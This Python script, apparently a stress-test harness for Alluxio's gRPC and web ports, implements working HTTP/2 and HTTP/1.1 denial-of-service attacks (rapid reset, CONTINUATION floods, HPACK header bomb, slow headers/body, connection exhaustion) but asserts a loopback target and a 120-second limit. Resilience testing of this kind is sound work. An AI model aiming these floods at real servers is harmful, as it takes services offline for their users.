"""What a hostile crowd does to a port, over bare sockets: attacks.py NAME HOST PORT SECONDS.

Every attack is bounded in connections, bytes a second and time, speaks to loopback only, and ends by itself.
"""
import contextlib
import os
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
VERSION = "/alluxio.grpc.version.ServiceVersionClientService/getServiceVersion"
CONFIGURATION = "/alluxio.grpc.meta.MetaMasterConfigurationService/GetConfiguration"
LOGIN = "/alluxio.grpc.sasl.SaslAuthenticationService/authenticate"
PAUSE = 0.01


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    value = value.encode()
    assert len(value) < 127
    return bytes([len(value)]) + value


def call_block(path):
    """The headers of a gRPC call, without compression."""
    return (b"\x83\x86" + b"\x04" + text(path) + b"\x01" + text("abuse") +
            b"\x00" + text("content-type") + text("application/grpc") + b"\x00" + text("te") + text("trailers"))


def call(stream, path, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, call_block(path))


def message(data, length=None):
    return b"\x00" + struct.pack(">I", len(data) if length is None else length) + data


class Target:
    def __init__(self, host, port, seconds):
        self.host, self.port = host, port
        self.end = time.monotonic() + seconds
        self.opened = self.refused = self.sent = 0

    def goes_on(self):
        return time.monotonic() < self.end

    def connect(self, begin=b"", source=None):
        """A connected non-blocking socket, or None."""
        s = socket.socket()
        s.settimeout(0.5)
        try:
            if source:
                s.bind((source, 0))
            s.connect((self.host, self.port))
            if begin:
                s.sendall(begin)
            s.setblocking(False)
            self.opened += 1
            return s
        except OSError:
            s.close()
            self.refused += 1
            return None

    def crowd(self, count, begin=b"", source=None):
        sockets = []
        while len(sockets) < count and self.goes_on():
            s = self.connect(begin, source(len(sockets)) if source else None)
            if s is None:
                time.sleep(PAUSE)
                count -= 1
            else:
                sockets.append(s)
        return sockets

    def hold(self, sockets):
        while self.goes_on():
            time.sleep(PAUSE)
        for s in sockets:
            s.close()

    def push(self, s, data):
        """Sends what the socket takes now. None if the connection is gone; else the number of bytes."""
        try:
            n = s.send(data)
        except BlockingIOError:
            return 0
        except OSError:
            return None
        self.sent += n
        return n

    def drip(self, sockets, bytes_of):
        """One byte a quarter of a second on each; what ends is opened anew."""
        position = 0
        while self.goes_on():
            for i, s in enumerate(sockets):
                if self.push(s, bytes_of(position)) is None:
                    s.close()
                    sockets[i] = self.connect(sockets_begin(self)) or s
            position += 1
            time.sleep(0.25)
        self.hold(sockets)

    def stream_of(self, begin, piece, connections=4, bytes_a_second=4_000_000):
        """The same piece again and again on some connections, each opened anew when it ends. piece(n) is the n-th."""
        state = [None] * connections
        start, sent = time.monotonic(), 0
        while self.goes_on():
            for i in range(connections):
                if state[i] is None:
                    s = self.connect(begin)
                    if s is None:
                        time.sleep(PAUSE)
                        continue
                    state[i] = [s, b"", 0]
                s, rest, n = state[i]
                if not rest:
                    rest, n = piece(n), n + 1
                done = self.push(s, rest)
                if done is None:
                    s.close()
                    state[i] = None
                    continue
                sent += done
                state[i] = [s, rest[done:], n]
            while self.goes_on() and sent > (time.monotonic() - start) * bytes_a_second:
                time.sleep(0.002)
            time.sleep(0.0005)
        for entry in state:
            if entry:
                entry[0].close()


def sockets_begin(target):
    return PREFACE + frame(SETTINGS, 0, 0) if target.port not in WEB_PORTS else b"GET / HTTP/1.1\r\nX: "


WEB_PORTS = (19999, 30991, 30992)
BEGIN = PREFACE + frame(SETTINGS, 0, 0)
NO_WINDOW = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))


def idle(t):
    t.hold(t.crowd(1100))


def idle_http2(t):
    t.hold(t.crowd(1100, BEGIN))


def fifty_thousand(t):
    """50,000 connections from 100 addresses, as many open at a time as this process may."""
    sockets = []
    for n in range(50_000):
        if not t.goes_on():
            break
        s = t.connect(source=f"127.1.0.{1 + n % 100}")
        if s is not None:
            sockets.append(s)
        if len(sockets) > 12_000:
            sockets.pop(0).close()
    t.hold(sockets)


def half_open(t):
    t.hold(t.crowd(1100, PREFACE[:10]))


def slow_headers(t):
    if t.port in WEB_PORTS:
        return t.drip(t.crowd(300, b"GET /metrics HTTP/1.1\r\nX: "), lambda n: b"a")
    block = call_block(VERSION)
    t.drip(t.crowd(300, BEGIN + frame(HEADERS, END_HEADERS, 1, block)[:9]), lambda n: block[n % len(block):][:1])


def slow_body(t):
    if t.port in WEB_PORTS:
        return t.drip(t.crowd(300, b"POST / HTTP/1.1\r\nContent-Length: 100000\r\n\r\n"), lambda n: b"a")
    begin = BEGIN + call(1, VERSION) + frame(DATA, 0, 1, message(b"", 1 << 20))
    t.drip(t.crowd(300, begin), lambda n: frame(DATA, 0, 1, b"a"))


def slow_readers(t):
    """Calls whose answers are never taken."""
    if t.port in WEB_PORTS:
        return t.hold(t.crowd(300, b"GET /metrics HTTP/1.1\r\n\r\n"))
    path = CONFIGURATION if t.port == 19998 else VERSION
    calls = b"".join(call(2 * i + 1, path) + frame(DATA, END_STREAM, 2 * i + 1, message(b"")) for i in range(100))
    t.hold(t.crowd(100, NO_WINDOW + calls))


def rapid_reset(t):
    block = call_block(VERSION)

    def piece(n):
        return b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
                        for s in range(200 * n + 1, 200 * n + 201, 2))
    t.stream_of(BEGIN, piece)


def header_bomb(t):
    """A header of 4 KB, named 30,000 times by one byte each."""
    big = b"\x40" + text("bomb") + b"\x7f" + bytes([0x80 | (3900 - 127) & 0x7f, (3900 - 127) >> 7]) + b"a" * 3900

    def piece(n):
        stream = 2 * n + 1
        first = call_block(VERSION) + (big if n == 0 else b"")
        return (frame(HEADERS, 0, stream, first) + frame(CONTINUATION, 0, stream, b"\xbe" * 15_000) +
                frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 15_000))
    t.stream_of(BEGIN, piece, bytes_a_second=1_000_000)


def continuation_flood(t):
    """A header that does not end."""
    filler = b"".join(b"\x00" + text(f"x{i:05}") + text("y" * 100) for i in range(100))

    def piece(n):
        return frame(HEADERS, 0, 1, call_block(VERSION)) if n == 0 else frame(CONTINUATION, 0, 1, filler)
    t.stream_of(BEGIN, piece)


def continuation_huge(t):
    """One header value without an end."""
    def piece(n):
        if n == 0:
            return frame(HEADERS, 0, 1, call_block(VERSION) + b"\x00" + text("x") + b"\x7f\x80\x80\x80\x80\x02")
        return frame(CONTINUATION, 0, 1, b"y" * 16_000)
    t.stream_of(BEGIN, piece, bytes_a_second=20_000_000)


def empty_continuations(t):
    def piece(n):
        return frame(HEADERS, 0, 1, call_block(VERSION)) if n == 0 else frame(CONTINUATION, 0, 1) * 500
    t.stream_of(BEGIN, piece)


def ping_flood(t):
    t.stream_of(BEGIN, lambda n: frame(PING, 0, 0, b"12345678") * 200)


def settings_flood(t):
    t.stream_of(BEGIN, lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 2)) * 200)


def empty_data(t):
    def piece(n):
        return call(1, LOGIN) if n == 0 else frame(DATA, 0, 1) * 500
    t.stream_of(BEGIN, piece)


def garbage(t):
    noise = os.urandom(4096)
    t.stream_of(b"", lambda n: noise, bytes_a_second=2_000_000)


def garbage_frames(t):
    noise = [frame(os.urandom(1)[0] % 16, os.urandom(1)[0], 1 + n % 7, os.urandom(60)) for n in range(50)]
    t.stream_of(BEGIN, lambda n: noise[n % 50], bytes_a_second=500_000)


def many_streams(t):
    """Calls that stay, as many as there may be."""
    def piece(n):
        return b"".join(call(s, LOGIN) for s in range(200 * n + 1, 200 * n + 201, 2)) if n < 200 else frame(PING, ACK, 0, b"12345678")
    t.stream_of(BEGIN, piece)


def big_messages(t):
    """A message of 200 MB, within the windows that the server opens, on 2 connections."""
    flows = []
    chunk = b"z" * 16_384
    while t.goes_on():
        while len(flows) < 2 and t.goes_on():
            s = t.connect(BEGIN + call(1, VERSION) + frame(DATA, 0, 1, message(b"", 200_000_000)))
            if s is None:
                time.sleep(PAUSE)
                continue
            flows.append({"s": s, "in": b"", "out": b"", "stream": 65_530, "all": 65_530})
        for flow in list(flows):
            if not serve_flow(t, flow, chunk):
                flow["s"].close()
                flows.remove(flow)
        time.sleep(0.001)
    for flow in flows:
        flow["s"].close()


def serve_flow(t, flow, chunk):
    """False when the connection or the call is over."""
    readable, _, _ = select.select([flow["s"]], [], [], 0)
    if readable:
        try:
            data = flow["s"].recv(65_536)
        except OSError:
            return False
        if not data:
            return False
        flow["in"] += data
    while len(flow["in"]) >= 9:
        length = int.from_bytes(flow["in"][:3], "big")
        kind, stream = flow["in"][3], int.from_bytes(flow["in"][5:9], "big")
        if len(flow["in"]) < 9 + length:
            break
        payload, flow["in"] = flow["in"][9:9 + length], flow["in"][9 + length:]
        if kind == WINDOW_UPDATE:
            flow["stream" if stream else "all"] += int.from_bytes(payload, "big")
        if kind == SETTINGS and len(payload):
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at:at + 6])
                flow["stream"] += value - 65_535 if name == 4 else 0
        if stream == 1 and kind in (RST_STREAM, HEADERS):
            return False
    for _ in range(64):
        if not flow["out"] and min(flow["stream"], flow["all"]) >= len(chunk):
            flow["out"] = frame(DATA, 0, 1, chunk)
            flow["stream"] -= len(chunk)
            flow["all"] -= len(chunk)
        if not flow["out"]:
            break
        done = t.push(flow["s"], flow["out"])
        if done is None:
            return False
        flow["out"] = flow["out"][done:]
        if flow["out"]:
            break
    return True


def big_request(t):
    """Web: a header line without an end."""
    t.stream_of(b"GET /", lambda n: b"a" * 10_000)


RPC = [idle, idle_http2, fifty_thousand, half_open, slow_headers, slow_body, slow_readers, rapid_reset, header_bomb, continuation_flood,
       continuation_huge, empty_continuations, ping_flood, settings_flood, empty_data, garbage, garbage_frames, many_streams, big_messages]
WEB = [idle, fifty_thousand, half_open, slow_headers, slow_body, slow_readers, garbage, big_request]


def main():
    name, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    assert host.startswith("127.") and seconds <= 120
    target = Target(host, port, seconds)
    with contextlib.suppress(KeyboardInterrupt):
        next(a for a in RPC + WEB if a.__name__ == name)(target)
    used = sum(os.times()[:2])
    print(f"{target.opened} opened, {target.refused} refused, {target.sent} bytes, {used:.1f} s of CPU")


if __name__ == "__main__":
    main()
